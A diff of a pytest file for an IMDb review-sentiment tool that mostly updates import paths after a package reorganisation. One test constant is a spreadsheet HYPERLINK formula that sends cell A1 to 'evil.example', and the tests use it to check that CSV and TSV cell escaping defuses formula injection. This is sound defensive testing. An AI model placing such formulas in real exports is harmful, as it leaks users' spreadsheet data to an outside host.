@@ -38,10 +38,13 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from IMDb import cache, cli, console, writers
-from IMDb.config import REPO_ROOT
+from IMDb import console
+from IMDb.analysis import cache
+from IMDb.cli import imdb_leap as cli
+from IMDb.output import formats
+from IMDb.config.run import REPO_ROOT
 from IMDb.errors import DataError
-from IMDb.io import REPORT_MARKER, atomic_dir
+from IMDb.output.atomic import REPORT_MARKER, atomic_dir
 from tests.test_counterfactual import GOOD
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -57,9 +60,9 @@ def strict_json(text: str):
 
 def imdb_leap(args: list[str], redirect: str = "", *, cwd: Path, stdin: bytes | None = None,
               env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
-    """`imdb-leap ARGS REDIRECT` in a fresh process (``python -m IMDb.cli``), the redirection done
+    """`imdb-leap ARGS REDIRECT` in a fresh process (``python -m IMDb.cli.imdb_leap``), the redirection done
     by bash so that a stream can be closed or pointed at /dev/full."""
-    command = ["bash", "-c", f'exec "$@" {redirect}', "imdb-leap", sys.executable, "-m", "IMDb.cli", *args]
+    command = ["bash", "-c", f'exec "$@" {redirect}', "imdb-leap", sys.executable, "-m", "IMDb.cli.imdb_leap", *args]
     environment = {**os.environ, "PYTHONPATH": str(REPO_ROOT), "TL_DISABLE_ANALYTICS": "1", **(env or {})}
     return subprocess.run(command, cwd=cwd, input=stdin, capture_output=True, timeout=timeout, env=environment)
 
@@ -77,7 +80,7 @@ def test_a_reader_that_stops_ends_the_run_quietly(word_bundles, tmp_path):
     reviews = tmp_path / "reviews.txt"
     reviews.write_text("".join(f"review {i}: a great film\n" for i in range(20_000)))
     process = subprocess.Popen(
-        [sys.executable, "-m", "IMDb.cli", "predict", "--model", "dense", "--models-dir", str(word_bundles),
+        [sys.executable, "-m", "IMDb.cli.imdb_leap", "predict", "--model", "dense", "--models-dir", str(word_bundles),
          "--input", str(reviews), "--quiet"], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
         env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
     first = [process.stdout.readline() for _ in range(2)]  # `| head -2`
@@ -176,7 +179,7 @@ def test_a_signal_while_scoring_writes_nothing(word_bundles, tmp_path, signum):
     reviews.write_text("".join(f"review {i}: a great film\n" for i in range(400_000)))
     out = tmp_path / "o.csv"
     process = subprocess.Popen(
-        [sys.executable, "-m", "IMDb.cli", "predict", "--model", "dense", "--models-dir", str(word_bundles),
+        [sys.executable, "-m", "IMDb.cli.imdb_leap", "predict", "--model", "dense", "--models-dir", str(word_bundles),
          "--input", str(reviews), "--output", str(out)], cwd=tmp_path, stdout=subprocess.PIPE,
         stderr=subprocess.PIPE, env={**os.environ, "PYTHONPATH": str(REPO_ROOT)}, text=True)
     assert process.stderr.readline().startswith("dense:")  # the progress bar: scoring has started
@@ -260,21 +263,21 @@ def test_a_full_disk_while_writing_a_cache_is_ignored(monkeypatch):
 def test_the_json_writer_writes_null_for_what_is_not_a_number():
     document = {"nan": float("nan"), "inf": np.float32("inf"), "rows": np.array([1.0, -np.inf]),
                 "frame": pd.DataFrame({"x": [np.nan, 2.0]}), "fine": np.float64(0.25)}
-    assert strict_json(writers.json_file(document)) == {
+    assert strict_json(formats.json_file(document)) == {
         "nan": None, "inf": None, "rows": [1.0, None], "frame": [{"x": None}, {"x": 2.0}], "fine": 0.25}
 
 
 def test_only_the_writer_calls_json_dumps():
-    """Every JSON the package writes goes through `IMDb.writers`; the other json.dumps calls make a
+    """Every JSON the package writes goes through `IMDb.output.formats`; the other json.dumps calls make a
     hash or a message, not a file."""
-    allowed = {("IMDb/train_bert.py", "hashlib.sha256(json.dumps("), ("IMDb/wordpiece.py", "hashlib.sha256(json.dumps("),
-               ("IMDb/text.py", "payload = json.dumps("), ("IMDb/bundle.py", "got {json.dumps(value)[:60]}"), ("IMDb/bundle.py", "shown = json.dumps(value)"),
-               ("IMDb/export.py", 'f.attrs["model_config"] = json.dumps(config)')}
+    allowed = {("IMDb/training/bert_finetune.py", "hashlib.sha256(json.dumps("), ("IMDb/text/wordpiece.py", "hashlib.sha256(json.dumps("),
+               ("IMDb/text/word_tokenizer.py", "payload = json.dumps("), ("IMDb/bundle.py", "got {json.dumps(value)[:60]}"), ("IMDb/bundle.py", "shown = json.dumps(value)"),
+               ("IMDb/training/export.py", 'f.attrs["model_config"] = json.dumps(config)')}
     found = set()
     for path in (REPO_ROOT / "IMDb").rglob("*.py"):
         name = str(path.relative_to(REPO_ROOT))
         for line in path.read_text(encoding="utf-8").splitlines():
-            if ("json.dump(" in line or "json.dumps(" in line) and name != "IMDb/writers.py":
+            if ("json.dump(" in line or "json.dumps(" in line) and name != "IMDb/output/formats.py":
                 found.add((name, next((a for n, a in allowed if n == name and a in line), line.strip())))
     assert found <= allowed, found - allowed
 
@@ -341,8 +344,8 @@ def test_raw_csv_is_one_environment_variable(word_bundles, tmp_path, monkeypatch
 def test_every_csv_cell_goes_through_one_rule():
     from IMDb.analysis.projector import _tsv_cell
 
-    assert [writers.csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
-    assert [writers.csv_cell(v) for v in ("fine", -0.5, 3, None, "a = b")] == ["fine", -0.5, 3, None, "a = b"]
+    assert [formats.csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
+    assert [formats.csv_cell(v) for v in ("fine", -0.5, 3, None, "a = b")] == ["fine", -0.5, 3, None, "a = b"]
     assert _tsv_cell(HYPERLINK) == "'" + HYPERLINK and _tsv_cell(-0.25) == "-0.25"
 
 
@@ -405,7 +408,7 @@ def test_a_copied_bundle_folder_does_not_break_predict(word_bundles, tmp_path, c
 
 
 def test_a_link_leaving_the_archive_through_another_link_is_reported_as_unsafe(tmp_path):
-    from IMDb.dataset_archive import extract_archive
+    from IMDb.data.aclimdb_archive import extract_archive
 
     archive = tmp_path / "aclImdb_v1.tar.gz"
     with tarfile.open(archive, "w:gz") as tar:
